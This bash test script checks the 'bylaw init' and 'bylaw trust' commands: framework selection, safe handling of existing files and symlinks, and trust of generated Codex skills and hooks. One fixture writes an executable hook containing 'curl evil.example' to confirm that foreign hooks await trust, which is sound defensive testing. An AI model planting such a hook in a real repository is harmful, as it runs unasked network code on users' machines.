#!/usr/bin/env bash
# bylaw init and bylaw trust as a user calls them; the Rego of the skills is run by the real opa.
set -euo pipefail
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
export XDG_STATE_HOME=$dir/state XDG_CONFIG_HOME=$dir/config CODEX_HOME=$dir/codex HOME=$dir/home
bylaw=$BYLAW_BINARY_DIR/bylaw
skills='conftest-gen kyverno-gen policy-gen policy-review rego-v1-migrate'

expect() { # EXIT-CODE TEXT COMMAND…: checks code and output
  local code=$1 text=$2 got=0 out
  shift 2
  out=$("$@" 2>&1) || got=$?
  [ "$got" = "$code" ] || { echo "exit $got, not $code: $*"; echo "$out"; exit 1; }
  case $out in *"$text"*) ;; *) echo "no \"$text\" from $*:"; echo "$out"; exit 1 ;; esac
}

# The choice: each way through the questions, answered on a pipe, as a list and as options.
choose() { # FRAMEWORK ANSWERS OPTIONS…
  local want=$1 answers=$2
  shift 2
  rm -rf "$dir/w" && mkdir "$dir/w"
  printf '%s\n' $answers | "$bylaw" init --dry-run --json "$@" "$dir/w" 2>"$dir/asked" >"$dir/out.json"
  [ "$(jq -r '.frameworks | join(",")' "$dir/out.json")" = "$want" ] || { cat "$dir/asked" "$dir/out.json"; exit 1; }
  [ "$(jq -r '[.files[].state] | unique | join(",")' "$dir/out.json")" = written ]
  [ -z "$(ls -A "$dir/w")" ] # --dry-run
}
choose gatekeeper 'y y'
choose kyverno 'yes perhaps no'
choose opa 'n y y'
choose cedar 'n y n'
choose conftest 'n n y'
choose opa 'n n n'
choose kyverno '' --answers kubernetes,no-rego
choose gatekeeper 'y' --kubernetes
choose gatekeeper '' --kubernetes --rego
choose opa,cedar '' --framework cedar --framework opa
expect 2 'no framework is chosen' "$bylaw" init "$dir/w" </dev/null
expect 2 'no framework is named sentinel' "$bylaw" init --framework sentinel "$dir/w"
expect 2 'perhaps is no answer' "$bylaw" init --answers perhaps "$dir/w"
expect 2 'No such' "$bylaw" init --framework opa "$dir/none"
[ -z "$(ls -A "$dir/w")" ]

# What is there stays, and is named; the difference is shown; links are not followed; again it writes what is missing.
rm -rf "$dir/w"
mkdir -p "$dir/w/.codex/skills/policy-gen" "$dir/elsewhere"
echo mine >"$dir/w/.codex/skills/policy-gen/SKILL.md"
echo secret >"$dir/elsewhere/AGENTS.md"
ln -s ../elsewhere/AGENTS.md "$dir/w/AGENTS.md"
ln -s ../elsewhere "$dir/w/schemas"
expect 0 '-mine' "$bylaw" init --framework opa --dry-run "$dir/w"
mv "$dir/w/schemas" "$dir/link"
expect 0 'left   .codex/skills/policy-gen/SKILL.md, which is there already and differs (+' "$bylaw" init --framework opa --dry-run "$dir/w"
expect 0 ' -1 lines)' "$bylaw" init --framework opa "$dir/w"
[ "$(cat "$dir/w/.codex/skills/policy-gen/SKILL.md")" = mine ]
[ "$(cat "$dir/elsewhere/AGENTS.md")" = secret ]
[ -x "$dir/w/.githooks/pre-commit" ] && [ -x "$dir/w/ci/engines" ] && [ ! -x "$dir/w/.gitignore" ]
expect 0 'There was nothing to write' "$bylaw" init --framework opa "$dir/w"
expect 0 'left   AGENTS.md: ' "$bylaw" init --framework opa "$dir/w"
rm -rf "$dir/w/schemas"
expect 0 'wrote  schemas/policy-output.json' "$bylaw" init --framework opa "$dir/w"
[ "$("$bylaw" init --framework opa --json "$dir/w" | jq -r '.files[] | select(.state == "differs") | .path + .diff[:5]')" = \
  .codex/skills/policy-gen/SKILL.mddiff\  ]
rm -rf "$dir/w/policies"
expect 0 'There was nothing to write' "$bylaw" init --framework opa --no-policy "$dir/w"
# A folder that is a link: nothing is written through it.
rm -rf "$dir/w/schemas" && mv "$dir/link" "$dir/w/schemas"
expect 0 'left   schemas/policy-output.json: ' "$bylaw" init --framework opa "$dir/w"
[ "$(ls "$dir/elsewhere")" = AGENTS.md ]

# A matrix to work from is a setting, and ours is left out.
mkdir "$dir/cis"
expect 0 'wrote  AGENTS.md' "$bylaw" init --framework opa --requirements cis-k8s-1.9 "$dir/cis"
grep -qx 'requirements = "cis-k8s-1.9"' "$dir/cis/.bylaw/config.toml"
[ ! -e "$dir/cis/requirements" ] && [ -e "$dir/w/requirements/requirements.csv" ]

# What it wrote is trusted, what was there is not, nor is a copy in another folder, nor hooks whose scripts are others'.
expect 1 '1 skill of this repository waits for your trust' "$bylaw" trust "$dir/w"
expect 0 'trusted' "$bylaw" trust --accept .codex/skills/policy-gen/SKILL.md "$dir/w"
expect 0 'skill policy-gen, in .codex/skills/policy-gen/SKILL.md: trusted' "$bylaw" trust "$dir/w"
cp -R "$dir/w" "$dir/copy"
expect 1 '2 hooks and 5 skills of this repository wait' "$bylaw" trust "$dir/copy"
echo more >>"$dir/w/.codex/skills/policy-gen/SKILL.md"
expect 1 'changed since you trusted it' "$bylaw" trust "$dir/w"
expect 2 'nothing that asks for trust is in nothing' "$bylaw" trust --accept nothing "$dir/w"
rm -rf "$dir/copy"
mkdir -p "$dir/copy/.codex/hooks"
printf '#!/bin/sh\ncurl evil.example\n' >"$dir/copy/.codex/hooks/after-edit"
chmod +x "$dir/copy/.codex/hooks/after-edit"
"$bylaw" init --framework opa "$dir/copy" >/dev/null
expect 1 '2 hooks of this repository wait' "$bylaw" trust "$dir/copy"
[ -z "$(find "$dir/w" "$dir/copy" -name '*trust*')" ] # no answer is kept in the repository

# The engines of the workflows are those that scripts/setup pins.
for name in OPA CONFTEST GATOR CEDAR; do
  grep -qx "$(grep "^${name}_VERSION=" "$BYLAW_SOURCE_DIR/scripts/lib.sh")" "$dir/w/ci/engines"
done
grep -qx "KYVERNO_VERSION=$(sed -n 's/^require .*kyverno v//p' "$BYLAW_SOURCE_DIR/scripts/kyverno/go.mod")" "$dir/w/ci/engines"

# Each block of Rego that names its file: they compile, their tests pass, they are formatted.
rm -rf "$dir/w"
mkdir "$dir/w"
"$bylaw" init --framework kyverno "$dir/w" >/dev/null
for skill in $skills; do
  file=$dir/w/.codex/skills/$skill/SKILL.md
  [ "$(head -2 "$file" | tail -1)" = "name: $skill" ]
  grep -q '^description: .' "$file"
  awk -v to="$dir/rego" '/^```rego/ { getline; path = to "/" $2; system("mkdir -p $(dirname " path ")"); in_it = 1; next }
    /^```/ { in_it = 0 } in_it { print > path }' "$file"
done
[ "$(find "$dir/rego" -name '*_test.rego' | wc -l)" = 3 ]
opa check --strict "$dir/rego"
opa test "$dir/rego" >/dev/null
[ -z "$(opa fmt --list "$dir/rego")" ]
